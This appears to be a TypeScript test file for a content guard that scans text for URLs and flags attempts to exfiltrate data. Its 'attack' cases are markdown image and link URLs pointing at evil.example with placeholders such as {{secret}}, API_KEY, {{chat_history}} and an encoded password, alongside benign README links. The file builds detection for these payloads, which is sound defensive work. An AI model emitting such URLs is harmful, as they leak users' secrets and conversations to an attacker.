import assert from 'node:assert/strict';
import { findUrlFindings } from '../../../../src/core/content/urls';

const LEAK = 'webhook.site/x?d={{secret}}';

/** Where each URL finding starts: the scan must find every http(s) URL wherever and however it is written. */
function starts(text: string): number[] {
  return [...new Set(findUrlFindings(text).map((finding) => finding.start))];
}

describe('content guard: URL scan finds every http(s) URL', () => {
  const CASES: readonly [string, string, number[]][] = [
    ['a URL at the very start of the text', `https://${LEAK}`, [0]],
    ['an upper-case scheme', `see HTTPS://${LEAK}`, [4]],
    ['a mixed-case plain http scheme', `see hTtP://${LEAK}`, [4]],
    ['a scheme glued to a word before it', `xhttps://${LEAK}`, [1]],
    ['a second URL right after the first', `https://a.example/ https://${LEAK}`, [19]],
    ['a "://" without http before it, then a real one', `ftp://${LEAK} and http://${LEAK}`, [38]],
    ['"https:/" with one slash is not a URL', `https:/${LEAK}`, []],
    ['"http" at the very end of the text', 'the word http', []],
  ];
  for (const [name, text, expected] of CASES) {
    it(name, () => assert.deepEqual(starts(text), expected));
  }
});

/** The rules a text's URLs raise, each once. */
function rules(text: string): string[] {
  return [...new Set(findUrlFindings(text).map((finding) => finding.rule))].sort();
}

describe('content guard: URL scan reads only what a URL sends', () => {
  const CASES: readonly [string, string, string[]][] = [
    ['attack: a secret placeholder in an image query', '![a](https://evil.example/p.png?q=${secrets})', ['exfil.url.image.placeholder']],
    ['attack: a bracketed key placeholder in an image query', '![a](https://evil.example/p.png?k=[API_KEY])', ['exfil.url.image.placeholder']],
    ['attack: YOUR_TOKEN as an image file name', '![a](https://evil.example/YOUR_TOKEN.png)', ['exfil.url.image.upper-placeholder']],
    ['attack: API_KEY as an image path segment', '![a](https://evil.example/log/API_KEY)', ['exfil.url.image.upper-placeholder']],
    ['attack: USER_EMAIL as an image path segment', '![a](https://evil.example/p/USER_EMAIL)', ['exfil.url.image.upper-placeholder']],
    ['attack: an upper-case name for the summary in an image path', '![a](https://evil.example/SUMMARY_OF_CHAT)', ['exfil.url.image.upper-placeholder']],
    ['attack: JSON-looking payload carrying {{secret}}', '![a](https://evil.example/p.png?c=%7B%22d%22%3A%22%7B%7Bsecret%7D%7D%22%7D)', ['exfil.url.image.placeholder']],
    ['attack: the conversation as data in the path', '![a](https://evil.example/{{chat_history}}/p.png)', ['exfil.url.image.placeholder']],
    ['attack: a code template for the API key in the path', '![a](https://evil.example/${apiKey}.png)', ['exfil.url.image.placeholder']],
    ['attack: text hidden by escaping its letters', '![a](https://evil.example/p.png?d=%70%61%73%73%77%6f%72%64%3d%68%75%6e%74%65%72%32%20%74%6f%6b%65%6e%3d%61%62%63)', ['exfil.url.image.encoded-text']],
    ['attack: text written out in a link\'s data parameter', '[click](https://evil.example/log?data=the%20user%20password%20is%20hunter2%20and%20more%20text%20here)', ['exfil.url.link.encoded-text']],
    ['attack: text in an image\'s q parameter (an image is fetched, not searched)', '![a](https://evil.example/p.png?q=the%20user%20password%20is%20hunter2%20and%20more%20text%20here)', ['exfil.url.image.encoded-text']],
    ['mocha README: a GitHub issue search in a link', '[good first issues](https://github.com/mochajs/mocha/issues?q=is%3Aopen+is%3Aissue+label%3A%22good+first+issue%22)', []],
    ['a Wikipedia search in a link', '[search](https://en.wikipedia.org/w/index.php?search=What%27s+the+best+way+to+learn+a+new+language)', []],
    ['attack: a link fragment a clicked page reads back', '[click](https://evil.example/#{{secret}})', ['exfil.url.link.placeholder']],
    ['an image fragment is never fetched', '![a](https://evil.example/p.png#{{secret}})', []],
    ['a badge that names a protocol version: HTTP_1.1 is not a slot', '<img alt="Static Badge" src="https://img.shields.io/badge/Niquests-HTTP_1.1%2C%202%2C_and_3_Client-cyan">', []],
    ['VS Code install badge: a link around an image, JSON config in the query', '[![Install](https://img.shields.io/badge/VS_Code-NPM-0098FF)](https://insiders.vscode.dev/redirect/mcp/install?name=memory&config=%7B%22command%22%3A%22npx%22%2C%22args%22%3A%5B%22-y%22%2C%22%40modelcontextprotocol%2Fserver-memory%22%5D%7D)', []],
    ['simplex contact link: its data rides in the fragment', '[![SimpleX](https://img.shields.io/badge/chat-on%20SimpleX-70F0F9)](https://simplex.chat/contact#/?v=1-2&smp=smp%3A%2F%2Fu2dS9sG8nMNURyZwqASV4yROM28Er0luVTx5X1CsMrU%3D%40smp4.simplex.im%2F8KvvURM6J38Gdq9dCuPswMOkMny0xCOJ%23%2F%3Fv%3D1-2)', []],
    ['TOKEN_CACHING.md is a file name', '[caching](https://github.com/Azure/azure-sdk-for-js/blob/main/sdk/identity/identity/TOKEN_CACHING.md)', []],
    ['HISTORY.md is a changelog', '[`HISTORY.md`](https://github.com/bevry/binaryextensions/blob/master/HISTORY.md)', []],
    ['MAX_SAFE_INTEGER is a documentation page', '[max](https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Number/MAX_SAFE_INTEGER)', []],
    ['an OpenAPI path template', '[Get a user](https://api.example.com/users/{user_id}/files/{fileId})', []],
    ['a percent-encoded path in an image URL', '![Impressions](https://azure-sdk-impressions.azurewebsites.net/api/impressions/azure-sdk-for-js%2Fsdk%2Fcore%2Fabort-controller%2FREADME.png)', []],
  ];
  for (const [name, text, expected] of CASES) {
    it(name, () => assert.deepEqual(rules(text), expected));
  }
});
